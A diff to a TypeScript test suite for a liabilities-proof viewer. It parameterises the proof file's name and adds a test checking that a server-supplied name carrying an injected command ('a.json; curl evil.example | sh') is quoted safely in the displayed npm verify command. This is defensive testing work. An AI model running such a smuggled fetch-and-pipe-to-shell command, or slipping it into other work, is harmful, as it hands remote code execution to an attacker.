@@ -56,9 +56,12 @@ interface OpenOptions {
   readonly list?: () => LiabilityList | 'lost'
   /** Null: it gets lost on the way. */
   readonly proof?: () => string | null
+  readonly name?: string
 }
 
-function open({ signedIn = true, list = listOf, proof }: OpenOptions = {}) {
+const NAME = 'liabilities-2026-01-05.json'
+
+function open({ signedIn = true, list = listOf, proof, name = NAME }: OpenOptions = {}) {
   const seen = scriptHouse({
     listLiabilities: () => {
       const found = list()
@@ -66,7 +69,7 @@ function open({ signedIn = true, list = listOf, proof }: OpenOptions = {}) {
     },
     getLiabilityProof: () => {
       const text = proof === undefined ? proofText(ownProof()) : proof()
-      return text === null ? 'lost' : ok({ name: 'liabilities-2026-01-05.json', text })
+      return text === null ? 'lost' : ok({ name, text })
     },
   })
   const world = createWorld({ signedIn })
@@ -196,6 +199,13 @@ describe('the own balance', () => {
     open({ proof: () => proofText({ ...ownProof(), holdings: [] }) })
     await check()
     expect(await screen.findByText('Nothing of yours is in this statement')).toBeTruthy()
+  })
+
+  it('makes no command of what the house wrote into the name of the file', async () => {
+    open({ name: 'a.json; curl evil.example | sh' })
+    await check()
+    const command = await screen.findByText(/^npm run verify-liabilities/)
+    expect(command.textContent).toContain("-- 'a.json; curl evil.example | sh' --key")
   })
 
   it('that does not arrive can be asked for again', async () => {
